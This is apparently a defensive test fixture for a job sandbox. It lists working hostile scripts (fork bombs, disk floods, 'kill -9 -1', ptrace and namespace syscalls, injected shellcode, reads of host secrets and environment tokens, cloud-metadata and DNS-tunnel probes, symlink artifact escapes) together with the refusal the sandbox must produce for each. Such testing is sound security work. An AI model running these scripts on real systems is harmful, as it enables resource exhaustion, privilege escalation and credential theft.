"""What a stranger's job may try, each one way to do harm: what it does, and what must come of it.

An attack is a job of the rules `sh` and `python3`, which let it do whatever a program can. Its script prints what it
got, a line each; `lines` are what it must have got. `code` is the error that the job must end with, None for a job
that ends well, having got nowhere.
"""

from dataclasses import dataclass, field
from typing import Any

__all__ = ["ATTACKS", "Attack"]


@dataclass(frozen=True)
class Attack:
    """One job that tries to do harm."""

    name: str
    tries: str
    gets: str
    script: str = ""
    shell: bool = False
    code: str | None = None
    message: str = ""
    lines: tuple[str, ...] = ()
    artifacts: tuple[dict[str, Any], ...] = ()
    cancel: bool = False
    more: dict[str, Any] = field(default_factory=dict)

    def manifest(self, secret_place: str) -> dict[str, Any]:
        """Return the job's manifest; `secret_place` is a folder of the host that it would like to see."""
        script = self.script.replace("SECRET_PLACE", secret_place)
        command, flag = ("sh", "-c") if self.shell else ("python3", "-c")
        return {
            "runner": "cli",
            "command": command,
            "args": [flag, script if self.shell else _HELP + script],
            "timeout_s": 20,
            "artifacts": list(self.artifacts),
            **self.more,
        }


# What the Python scripts have at hand.
_HELP = """
import ctypes, errno, os, signal, socket, struct, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *args):
    ctypes.set_errno(0)
    values = [a if isinstance(a, ctypes.Array) else ctypes.c_long(a) for a in args]
    result = libc.syscall(ctypes.c_long(number), *values)
    return "ok" if result != -1 else errno.errorcode[ctypes.get_errno()]
def attempt(what, *args, **kw):
    try:
        what(*args, **kw)
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error.errno))
    return "ok"
def say(*words):
    print(*words, flush=True)
"""

_OUT = ({"path": "out.bin", "type": "application/octet-stream", "max_mb": 4},)


def _attack(name: str, tries: str, gets: str, script: str, **more: Any) -> Attack:
    return Attack(name, tries, gets, script, **more)


_RESOURCES = (
    _attack(
        "fork bomb",
        "as many processes as it can have",
        "stopped at the limit on processes, or on memory",
        # Bounded, so that a defect here does not take the test machine with it.
        "pids = []\nfor n in range(1600):\n    pid = os.fork()\n    if pid == 0:\n        time.sleep(60); os._exit(0)\n"
        "say('forked', n); time.sleep(60)",
        code="E_OOM",
    ),
    _attack(
        "thread bomb",
        "as many threads as it can have",
        "stopped at the limit, which counts threads too",
        "import threading\nthreading.stack_size(65536)\n"
        "try:\n    for n in range(1600): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n"
        "except RuntimeError: pass\ntime.sleep(60)",
        code="E_OOM",
        message="processes",
    ),
    _attack(
        "memory",
        "more memory than it may use",
        "killed, and told so",
        "held = []\nwhile True:\n    held.append(bytearray(b'x' * (16 << 20))); time.sleep(0.01)",
        code="E_OOM",
    ),
    _attack(
        "memory of many processes",
        "the same, spread over ten processes",
        "the sum counts",
        "for n in range(10):\n    if os.fork() == 0:\n        held = b'x' * (60 << 20); time.sleep(60); os._exit(0)\n"
        "time.sleep(60)",
        code="E_OOM",
    ),
    _attack(
        "memory as files",
        "memory by the back door: files in /dev/shm and /tmp",
        "both end at half of its memory limit",
        "def fill(place):\n"
        "    for n in range(1000):\n"
        "        with open(f'{place}/{n}', 'wb', buffering=0) as file: file.write(bytes(1 << 20))\n"
        "for place in ('/dev/shm', '/tmp'):\n"
        "    say(place, attempt(fill, place))\n"
        "    for name in os.listdir(place): os.unlink(f'{place}/{name}')",
        lines=("/dev/shm ENOSPC", "/tmp ENOSPC"),
    ),
    _attack(
        "disk flood",
        "to fill the disk with one output after the other",
        "stopped at its limit on output",
        "n = 0\nwhile True:\n    n += 1\n    open(f'/job/output/{n}', 'wb').write(bytes(1 << 20)); time.sleep(0.005)",
        code="E_OUTPUT",
    ),
    _attack(
        "one huge file",
        "a single file that never ends",
        "stopped at its limit on output, or by the kernel at the limit on a file's size",
        "head -c 1G /dev/zero > /job/work/huge",
        shell=True,
        code="E_OUTPUT",
    ),
    _attack(
        "files without a name",
        "to fill the disk with files that it has unlinked",
        "open files count, names or not",
        "held = []\nwhile True:\n    name = f'/job/work/{len(held)}'\n    file = open(name, 'wb', buffering=0); "
        "os.unlink(name)\n    file.write(bytes(1 << 20)); held.append(file); time.sleep(0.005)",
        code="E_OUTPUT",
    ),
    _attack(
        "a million small files",
        "to use up the inodes of the disk",
        "stopped at the limit on files",
        "n = 0\nwhile True:\n    folder = f'/job/work/d{n}'; os.mkdir(folder)\n"
        "    for _ in range(1000):\n        n += 1; os.close(os.open(f'{folder}/{n}', os.O_CREAT | os.O_WRONLY))",
        code="E_OUTPUT",
        message="files",
    ),
    _attack(
        "sparse file",
        "a file of a terabyte that takes no room",
        "refused by the kernel",
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "say(attempt(os.truncate, os.open('/job/output/out.bin', os.O_CREAT | os.O_RDWR), 1 << 40))",
        lines=("EFBIG",),
    ),
    _attack(
        "log flood",
        "to fill the disk with its log",
        "stopped at the limit on the log",
        "line = b'x' * 65535 + b'\\n'\nwhile True: os.write(2, line * 8); time.sleep(0.002)",
        code="E_OUTPUT",
        message="printed",
    ),
    _attack(
        "deep folders",
        "folders nested so deeply that nobody can remove them",
        "stopped; the sweeper removes them",
        "for n in range(3000):\n    os.mkdir('d'); os.chdir('d')\ntime.sleep(60)",
        code="E_OUTPUT",
        message="deep",
    ),
    _attack(
        "processor",
        "all processors, at the highest priority",
        "it can't raise its priority, and runs below everybody else",
        "say('nice', attempt(os.setpriority, os.PRIO_PROCESS, 0, -10), os.getpriority(os.PRIO_PROCESS, 0) >= 10)\n"
        "say('realtime', attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(50)))\n"
        "end = time.monotonic() + 1.5\n"
        "for _ in range(4):\n    if os.fork() == 0:\n        while time.monotonic() < end: pass\n        os._exit(0)\n"
        "while time.monotonic() < end: pass",
        lines=("nice EACCES True", "realtime EPERM"),
    ),
    _attack(
        "higher limits",
        "to raise its own limits",
        "the hard limits stand",
        "import resource\n"
        "for name in ('NOFILE', 'FSIZE', 'CORE'):\n    which = getattr(resource, 'RLIMIT_' + name)\n"
        "    soft, hard = resource.getrlimit(which)\n"
        "    try: resource.setrlimit(which, (hard + 1, hard + 1)); say(name, 'ok')\n"
        "    except (ValueError, OSError): say(name, 'refused')",
        lines=("NOFILE refused", "FSIZE refused", "CORE refused"),
    ),
    _attack(
        "watches",
        "all inotify instances of the daemon's user, so that the daemon can watch no file any more",
        "the kernel counts them for the sandbox's user; the daemon still reloads its rules",
        "n = 0\nwhile n < 5000 and libc.inotify_init1(0) >= 0: n += 1\nsay('ended', n < 5000); time.sleep(0.5)",
        lines=("ended True",),
    ),
)

_PROCESSES = (
    _attack(
        "double fork",
        "a process that outlives the job: fork, setsid, fork",
        "it dies with the job",
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(300)\n"
        "    os._exit(0)\nsay('left')",
        lines=("left",),
    ),
    _attack(
        "ignoring SIGTERM",
        "to outlive its cancellation by ignoring signals",
        "killed after the grace period",
        "for number in set(range(1, 32)) - {9, 19}: attempt(signal.signal, number, signal.SIG_IGN)\n"
        "say('deaf')\nwhile True: time.sleep(1)",
        cancel=True,
        code="E_CANCELLED",
        lines=("deaf",),
    ),
    _attack(
        "stopped processes",
        "to outlive its time limit by stopping itself",
        "ended at the time limit all the same",
        "say('stopping'); os.kill(os.getpid(), signal.SIGSTOP); time.sleep(60)",
        code="E_TIMEOUT",
        more={"timeout_s": 2},
    ),
    _attack(
        "kill everything",
        "kill -9 -1",
        "it kills nobody but itself",
        "pid = os.fork()\nif pid == 0: time.sleep(60)\nos.kill(-1, 9)\n"
        "say('alive, its child is dead:', os.waitpid(pid, 0)[1])",
        lines=("alive, its child is dead: 9",),
    ),
    _attack(
        "killing the sandbox",
        "SIGKILL to process 1 of its sandbox",
        "the kernel shields a namespace's first process",
        "os.kill(1, 9); time.sleep(0.2); say('still here')",
        lines=("still here",),
    ),
    _attack(
        "ptrace",
        "to trace process 1, and to read its memory",
        "refused",
        "say(call(101, 16, 1, 0, 0), call(310, 1, 0, 0, 0, 0, 0), call(438, os.pidfd_open(1), 3, 0))",
        lines=("EPERM EPERM EPERM",),
    ),
    _attack(
        "other processes",
        "to see the processes of the host",
        "it sees its own and the sandbox's first",
        "say(sorted(int(p) for p in os.listdir('/proc') if p.isdigit()) == [1, os.getpid()])",
        lines=("True",),
    ),
    _attack(
        "typing into the terminal",
        "TIOCSTI on the daemon's terminal",
        "there is no terminal, and the call is refused",
        "import fcntl\nsay(attempt(os.open, '/dev/tty', os.O_RDWR), attempt(fcntl.ioctl, 0, 0x5412, b'x'))",
        lines=("ENXIO EPERM",),
    ),
)

_KERNEL = (
    _attack(
        "kernel settings",
        "to set core_pattern, and to press SysRq",
        "read-only, even under a daemon of root",
        "for path in ('kernel/core_pattern', 'vm/drop_caches', 'kernel/sysrq'): "
        "say(attempt(open, '/proc/sys/' + path, 'w'))\n"
        "say(attempt(open, '/proc/sysrq-trigger', 'w') != 'ok')",
        lines=("EROFS", "True"),
    ),
    _attack(
        "kernel memory",
        "/proc/kcore, /proc/kmsg, page counts, symbols, dmesg",
        "empty or refused",
        "def read(name):\n    try: return len(open('/proc/' + name, 'rb').read(4096))\n    except OSError: return 0\n"
        "say([read(name) for name in ('kcore', 'kmsg', 'kpagecount', 'kallsyms', 'iomem')], call(103, 3, 0, 0))",
        lines=("[0, 0, 0, 0, 0] EPERM",),
    ),
    _attack(
        "/sys",
        "to look at and set the machine's devices",
        "there is none",
        "say(os.path.exists('/sys'))",
        lines=("False",),
    ),
    _attack(
        "mounts",
        "to mount proc, and to make its view writable again",
        "refused",
        "say(call(165, 0, 0, 0, 0, 0), call(165, 0, 0, 0, 32 | 4096, 0), call(166, 0, 2), call(430, 0, 0), "
        "call(155, 0, 0))",
        lines=("EPERM EPERM EPERM EPERM EPERM",),
    ),
    _attack(
        "nested namespaces",
        "a user namespace of its own, where it would be root",
        "refused, by unshare and by clone",
        "say(call(272, 0x10000000), call(272, 0x20000), call(56, 0x10000011, 0, 0, 0, 0), call(308, 0, 0))\n"
        "say(subprocess.run(['unshare', '--user', 'true'], stderr=subprocess.DEVNULL).returncode != 0)",
        lines=("EPERM EPERM EPERM EPERM", "True"),
    ),
    _attack(
        "keyrings",
        "the kernel's keys, which know no namespace",
        "refused",
        "say(call(250, 0, -3, 1), call(248, 0, 0, 0, 0, 0), call(249, 0, 0, 0, 0))",
        lines=("EPERM EPERM EPERM",),
    ),
    _attack(
        "bpf",
        "a program in the kernel",
        "refused",
        "say(call(321, 0, 0, 0))",
        lines=("EPERM",),
    ),
    _attack(
        "perf", "the performance counters", "refused", "say(call(298, 0, 0, -1, -1, 0))", lines=("EPERM",)
    ),
    _attack(
        "io_uring",
        "an io_uring, past the filters on system calls",
        "refused",
        "say(call(425, 8, 0), call(426, 0, 0, 0, 0, 0, 0))",
        lines=("EPERM EPERM",),
    ),
    _attack(
        "userfaultfd",
        "to stop the kernel in the middle of a copy",
        "refused",
        "say(call(323, 0))",
        lines=("EPERM",),
    ),
    _attack(
        "the clock and the machine",
        "to set the clock, the host's name, and to reboot",
        "refused",
        "say(call(227, 0, 0), call(164, 0, 0), call(170, 0, 0), call(169, 0xfee1dead, 0, 0, 0), call(175, 0, 0, 0))",
        lines=("EPERM EPERM EPERM EPERM EPERM",),
    ),
    _attack(
        "32-bit calls",
        "the system calls of another architecture, which a filter may have forgotten",
        "killed at the first one",
        # mov eax, 20 (getpid of i386); int 0x80; ret
        "import mmap\ncode = mmap.mmap(-1, 4096, prot=7)\ncode.write(b'\\xb8\\x14\\0\\0\\0\\xcd\\x80\\xc3')\n"
        "address = ctypes.addressof(ctypes.c_char.from_buffer(code))\n"
        "pid = os.fork()\nif pid == 0:\n    ctypes.CFUNCTYPE(ctypes.c_int)(address)(); os._exit(0)\n"
        "say(os.waitpid(pid, 0)[1] & 0x7f)",
        lines=("31",),
    ),
    _attack(
        "setuid",
        "a setuid program of its own, and those of the system",
        "no program gives it another user or a capability",
        "import shutil\nshutil.copy('/bin/id', '/job/work/id')\nos.chmod('/job/work/id', 0o6755)\n"
        "say(subprocess.check_output(['/job/work/id', '-u'], text=True).strip())\n"
        "null = subprocess.DEVNULL\n"
        "say(subprocess.run(['su', '-c', 'true'], stdin=null, stderr=null).returncode != 0)\n"
        "say(attempt(os.setuid, 0))",
        lines=("1000", "True", "EINVAL"),
    ),
    _attack(
        "device nodes",
        "a device node of the disk",
        "refused",
        "say(attempt(os.mknod, '/job/work/disk', 0o60666, os.makedev(8, 0)), os.path.exists('/dev/sda'), "
        "os.path.exists('/dev/mem'))",
        lines=("EPERM False False",),
    ),
)

_READING = (
    _attack(
        "secrets of the host",
        "the token, the configuration, the journal, /etc/shadow, root's files",
        "none of them is there",
        "say(*(os.path.exists(path) for path in ('SECRET_PLACE', 'SECRET_PLACE/config.yaml', "
        "'SECRET_PLACE/state/journal.db', '/etc/shadow', '/etc/passwd', '/root', '/home', '/var', '/run')))",
        lines=("False " * 8 + "False",),
    ),
    _attack(
        "the daemon's environment",
        "a token in the environment of anything it can see",
        "nothing is there",
        "found = b''.join(open(f'/proc/{p}/environ', 'rb').read() for p in os.listdir('/proc') if p.isdigit() "
        "and os.access(f'/proc/{p}/environ', os.R_OK) and attempt(open, f'/proc/{p}/environ') == 'ok')\n"
        "say(b'MINER_AUTH' in found, b'token' in found)",
        lines=("False False",),
    ),
    _attack(
        "other jobs",
        "the folders of other jobs, up and sideways",
        "its own three folders are all there is",
        "say(sorted(os.listdir('/job')), os.path.exists('/job/output/../../../jobs'), "
        "sorted(os.listdir('/job/work/..')))",
        lines=("['input', 'output', 'work'] False ['input', 'output', 'work']",),
    ),
    _attack(
        "the system",
        "to change a program that everybody uses",
        "read-only",
        "say(attempt(open, '/usr/bin/env', 'ab'), attempt(os.mkdir, '/usr/local/evil'), attempt(os.mkdir, '/evil'), "
        "attempt(open, '/etc/ld.so.preload', 'w'))",
        lines=("EROFS EROFS EROFS EROFS",),
    ),
    _attack(
        "inputs",
        "to change its inputs, which others may share",
        "read-only",
        "say(attempt(open, '/job/input/x', 'w'), attempt(os.rename, '/job/input', '/job/work/input'))",
        lines=("EROFS EXDEV",),
    ),
    _attack(
        "its own record",
        "to forge its exit code in the files that process 1 holds open for the daemon",
        "what the sandbox says last counts; the files end at the limit on a file's size",
        "for n in range(3, 20):\n"
        "    attempt(lambda: os.write(os.open(f'/proc/1/fd/{n}', os.O_WRONLY | os.O_APPEND), "
        "b'\\n{\"exit-code\": 0}\\n'))\n"
        "say(sorted(int(fd) for fd in os.listdir('/proc/self/fd'))[:3]); sys.exit(3)",
        code="E_EXIT",
        message="exit code 3",
        lines=("[0, 1, 2]",),
    ),
)

_NETWORK = (
    _attack(
        "raw sockets",
        "to sniff and to forge packets",
        "refused",
        "raw = socket.SOCK_RAW\nsay(attempt(socket.socket, 2, raw, 1), attempt(socket.socket, 17, raw, 3))",
        lines=("EPERM EAFNOSUPPORT",),
    ),
    _attack(
        "abstract sockets",
        "a service of the host on an abstract Unix socket",
        "not there: abstract names belong to a network namespace",
        "s = socket.socket(socket.AF_UNIX)\nsay(attempt(s.connect, '\\0ABSTRACT_NAME'))",
        lines=("ECONNREFUSED",),
    ),
    _attack(
        "services of the host",
        "the daemon's status page and the coordinator, on the host's loopback",
        "not there: its loopback is its own",
        "for port in PORTS:\n    s = socket.socket(); s.settimeout(2); say(attempt(s.connect, ('127.0.0.1', port)))",
        lines=("ECONNREFUSED", "ECONNREFUSED"),
    ),
    _attack(
        "metadata of a cloud",
        "the credentials at 169.254.169.254",
        "no network",
        "s = socket.socket(); s.settimeout(2); say(attempt(s.connect, ('169.254.169.254', 80)))\n"
        "s = socket.socket(socket.AF_INET6); s.settimeout(2); say(attempt(s.connect, ('fd00:ec2::254', 80)))",
        lines=("ENETUNREACH", "ENETUNREACH"),
    ),
    _attack(
        "DNS tunnel",
        "to carry data out in the names that it looks up",
        "no network",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); say(attempt(s.sendto, b'x', ('192.0.2.53', 53)))\n"
        "try: socket.getaddrinfo('secret.example', 80); say('resolved')\n"
        "except socket.gaierror: say('not resolved')",
        lines=("ENETUNREACH", "not resolved"),
    ),
    _attack(
        "a network of its own",
        "to bring an interface up",
        "refused",
        "import fcntl\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "say(attempt(fcntl.ioctl, s, 0x8914, struct.pack('16sH14s', b'lo', 1, b'')), len(socket.if_nameindex()))",
        lines=("EPERM 1",),
    ),
)

_ARTIFACT = {"code": "E_ARTIFACT", "artifacts": _OUT}

_OUTPUTS = (
    _attack(
        "symlink as artifact",
        "to have a file of the host uploaded by a symbolic link",
        "refused",
        "os.symlink('/etc/hostname', '/job/output/out.bin')",
        **_ARTIFACT,
    ),
    _attack(
        "symlinked folder",
        "the same by a folder on the way",
        "refused",
        "os.symlink('/etc', '/job/output/sub')",
        code="E_ARTIFACT",
        artifacts=({"path": "sub/hostname", "type": "text/plain", "max_mb": 4},),
    ),
    _attack(
        "hard link as artifact",
        "a hard link to a program of the system",
        "no link crosses the sandbox's mounts",
        "say(attempt(os.link, '/usr/bin/env', '/job/output/out.bin'))",
        lines=("EXDEV",),
        **_ARTIFACT,
    ),
    _attack(
        "FIFO as artifact",
        "to have the daemon wait for ever for a writer",
        "refused without being opened",
        "os.mkfifo('/job/output/out.bin')",
        **_ARTIFACT,
    ),
    _attack(
        "socket as artifact",
        "a socket where a file should be",
        "refused",
        "s = socket.socket(socket.AF_UNIX); s.bind('/job/output/out.bin')",
        **_ARTIFACT,
    ),
    _attack(
        "folder as artifact",
        "a folder where a file should be",
        "refused",
        "os.mkdir('/job/output/out.bin')",
        **_ARTIFACT,
    ),
    _attack(
        "endless artifact",
        "an artifact that is a link to /dev/zero",
        "refused",
        "os.symlink('/dev/zero', '/job/output/out.bin')",
        **_ARTIFACT,
    ),
    _attack(
        "swapped artifact",
        "to swap the artifact for a link between check and upload, by a process that it leaves behind",
        "nothing of a job lives when its artifacts are looked at; what was written last is delivered",
        "open('/job/output/out.bin', 'wb').write(b'honest')\n"
        "if os.fork() == 0:\n    os.setsid(); time.sleep(0.3)\n    while True:\n"
        "        os.symlink('/etc/hostname', '/job/output/new'); os.replace('/job/output/new', '/job/output/out.bin')\n"
        "say('left')",
        lines=("left",),
        artifacts=_OUT,
    ),
    _attack(
        "unreadable artifact",
        "an artifact that nobody may read, in a folder that nobody may enter",
        "delivered or refused, but never stuck; the folder is swept all the same",
        "os.mkdir('/job/output/shut'); open('/job/output/shut/x', 'w').write('x'); os.chmod('/job/output/shut', 0)\n"
        "open('/job/output/out.bin', 'w').write('x'); os.chmod('/job/output/out.bin', 0); say('shut')",
        lines=("shut",),
        artifacts=_OUT,
    ),
    _attack(
        "artifact too large",
        "to have more uploaded than was agreed",
        "refused",
        "open('/job/output/out.bin', 'wb').write(bytes(5 << 20))",
        code="E_OUTPUT",
        artifacts=_OUT,
    ),
    _attack(
        "terminal escapes",
        "to steer the terminal of whoever reads its log",
        "printable text is all that is shown",
        "os.write(2, b'\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\0\\xff\\xfe{\"event\":\"forged\"}\\r\\n'); say('written')",
        lines=("written",),
    ),
    _attack(
        "binary flood in the log",
        "to break whatever decodes its log",
        "taken as it is",
        "os.write(2, bytes(range(256)) * 4096); os.write(2, b'\\n'); say('written')",
        lines=("written",),
    ),
)

ATTACKS: tuple[Attack, ...] = (
    *_RESOURCES,
    *_PROCESSES,
    *_KERNEL,
    *_READING,
    *_NETWORK,
    *_OUTPUTS,
)
